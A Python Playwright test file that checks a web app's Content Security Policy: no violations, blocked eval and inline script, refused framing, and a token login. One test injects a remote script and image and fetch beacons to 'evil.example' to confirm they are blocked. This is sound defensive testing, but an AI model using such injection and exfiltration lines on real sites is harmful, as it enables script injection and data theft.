"""The browser's own view of the policies: nothing is violated, and what is foreign does not run."""

from __future__ import annotations

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import httpx2
import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser import SEEN, UNDRAWN, Visit, settled, view, visited
from tests.e2e.conftest import App, running_app

TOKEN = "a-token-of-a-class-2026"
LISTEN = """
window.violations = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.violations.push(`${e.effectiveDirective} ${e.blockedURI}`);
});
"""


@pytest.fixture
def listening(chromium: Browser) -> Iterator[Visit]:
    """A page that notes what its policy stops, in frames, too; fails on any error in its console."""
    with visited(chromium, SEEN, LISTEN, UNDRAWN) as visit:
        yield visit


def violations(page: Page) -> list[str]:
    return [told for frame in page.frames for told in frame.evaluate("() => window.violations ?? []")]


def test_page_and_scene_violate_nothing(listening: Visit, app: App):
    listening.page.goto(app.url)
    settled(listening.page)
    expect(listening.page.get_by_test_id("scene-notice")).to_be_hidden()
    for name in ("explore", "compare", "rig", "derivation"):
        view(listening.page, name)
    expect(listening.page.locator("#formulas math").first).to_be_visible()
    expect(listening.page.locator("#paper math").first).to_be_visible()
    assert len(listening.page.frames) == 2
    assert violations(listening.page) == []


def test_the_rigs_own_window_violates_nothing(listening: Visit, app: App):
    listening.page.goto(f"{app.url}scene/{'policy'.ljust(22, '_')}/")
    expect(listening.page.get_by_text("Pitch poles, rad/s")).to_be_visible()
    assert violations(listening.page) == []


def test_the_apis_description_works_without_inline_scripts(listening: Visit, app: App):
    listening.page.goto(f"{app.url}docs")
    listening.page.locator(".opblock-summary", has_text="/api/v1/gains").click()
    listening.page.get_by_role("button", name="Try it out").click()
    listening.page.get_by_role("button", name="Execute").click()
    expect(listening.page.locator(".responses-table.live-responses-table")).to_contain_text(
        "closed_loop_poles"
    )
    assert violations(listening.page) == []


@pytest.mark.parametrize("path", ["", f"scene/{'foreign'.ljust(22, '_')}/"])
def test_what_is_inline_or_foreign_does_not_run(listening: Visit, app: App, path: str):
    """So the listener hears, and the policies are in force."""
    listening.page.goto(app.url + path)
    listening.page.evaluate(
        """() => {
            const inline = document.createElement('script');
            inline.textContent = 'window.ran = true';
            const foreign = document.createElement('script');
            foreign.src = 'https://evil.example/x.js';
            const image = new Image();
            image.src = 'https://evil.example/leak.png';
            document.head.append(inline, foreign);
            fetch('https://evil.example/leak').catch(() => {});
        }"""
    )
    listening.page.wait_for_function("() => window.violations.length >= 4")
    told = listening.page.evaluate("() => window.violations")
    assert any(one.startswith("script-src-elem inline") for one in told)
    for kind in ("script-src-elem", "img-src", "connect-src"):
        assert any(one.startswith(f"{kind} https://evil.example") for one in told)
    assert listening.page.evaluate("() => window.ran") is None
    listening.errors.clear()  # each of these is told in the console, too


KERNELS = """async () => {
    const { compiled, instantiated, MODULE } = await import('/static/kernel/index.js');
    const streamed = WebAssembly.compileStreaming(await fetch(MODULE)).then(() => true);
    const kernels = await instantiated(await compiled(await fetch(MODULE)));
    const a = kernels.array('f64', 2, 2);
    const [real, imaginary, v] = [0, 1, 2].map(() => kernels.array('f64', 2));
    a.floats.set([0, 1, -9, 0]);
    kernels.bound('eigenvalues', { a, real, imaginary, v })();
    return { streamed: await streamed, imaginary: [...imaginary.floats] };
}"""
MADE_OF_TEXT = """() => new Promise((told) => {
    const tried = () => {
        try { told(new Function('return 1')()); } catch (error) { told(error.name); }
    };
    setTimeout(tried); // what the test itself evaluates may do all
})"""
COMPILED = """() => {
    const empty = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
    return WebAssembly.compile(empty).then(() => 'compiled', (error) => error.name);
}"""


def test_the_page_runs_its_kernels_and_no_code_made_of_text(listening: Visit, app: App):
    listening.page.goto(app.url)
    settled(listening.page)
    expect(listening.page.get_by_test_id("scene-notice")).to_be_hidden()
    assert listening.page.evaluate(KERNELS) == {"streamed": True, "imaginary": [3, -3]}
    assert violations(listening.page) == []
    assert listening.page.evaluate(MADE_OF_TEXT) == "EvalError"
    listening.errors.clear()


def test_what_has_no_kernels_compiles_none(listening: Visit, app: App):
    listening.page.goto(f"{app.url}docs")
    assert listening.page.evaluate(COMPILED) == "CompileError"
    listening.errors.clear()


def test_other_sites_may_not_frame_the_page(chromium: Browser, app: App):
    """The other one is another port: that is another origin, and as local as ours."""

    class Other(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = f'<iframe src="{app.url}"></iframe>'.encode() if self.path == "/" else b""
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Other) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        with visited(chromium) as visit:
            with visit.page.expect_event("requestfailed", lambda request: request.url == app.url) as refused:
                visit.page.goto(f"http://127.0.0.1:{server.server_port}/")
            visit.errors.clear()  # the console tells of it, too
        server.shutdown()
    assert "BLOCKED_BY_RESPONSE" in str(refused.value.failure)


def test_a_student_types_the_token_once(listening: Visit):
    with running_app(access_token=TOKEN) as app:
        assert httpx2.get(f"{app.url}api/v1/presets").status_code == 401
        listening.page.goto(f"{app.url}#place")
        expect(listening.page.get_by_label("Access token")).to_be_focused()
        listening.page.keyboard.type("guess")
        listening.page.keyboard.press("Enter")
        expect(listening.page.get_by_role("alert")).to_have_text("This is not the token.")
        assert violations(listening.page) == []
        listening.errors.clear()  # Chromium tells of each 401
        listening.page.get_by_label("Access token").fill(TOKEN)
        listening.page.get_by_role("button", name="Open").click()
        settled(listening.page)
        expect(listening.page.get_by_test_id("scene-notice")).to_be_hidden()
        assert listening.page.evaluate("() => document.cookie") == ""
        listening.page.reload()
        settled(listening.page)
        listening.page.goto("about:blank")
